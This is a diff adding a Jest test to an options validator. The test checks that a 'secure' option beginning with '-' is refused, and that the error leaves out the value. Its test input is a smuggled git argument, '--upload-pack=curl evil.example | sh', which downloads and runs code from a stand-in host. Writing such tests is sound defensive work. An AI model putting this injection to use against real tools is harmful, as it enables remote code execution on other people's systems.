@@ -403,6 +403,24 @@ describe('validateOptions', () => {
       expect(valueOf({ ...list, allowLeadingDash: true }, ['-x'])).toEqual(['-x']);
     });
 
+    it('refuses a secure value starting with "-" without echoing it, unless the option allows it', () => {
+      const secure: OptionDefinition = { name: 'token', type: 'secure' };
+      const v = '--upload-pack=curl evil.example | sh #s3cr3t';
+      const got = problems([secure], { token: v });
+      expect(got).toEqual([
+        {
+          path: 'options.token',
+          option: 'token',
+          rule: 'allowLeadingDash',
+          message: expect.stringMatching(/^must not start with "-": .*allowLeadingDash: true/),
+        },
+      ]);
+      expect(JSON.stringify(got)).not.toContain('s3cr3t');
+      expect(JSON.stringify(got)).not.toContain('upload-pack');
+      expect(valueOf({ ...secure, allowLeadingDash: true }, v)).toBe(v);
+      expect(valueOf(secure, 'pa-ss')).toBe('pa-ss');
+    });
+
     it('a dash elsewhere, a default and a pattern that allows "-" change nothing', () => {
       expect(valueOf(str, 'a-b')).toBe('a-b');
       expect(valueOf(str, ' -x')).toBe(' -x');
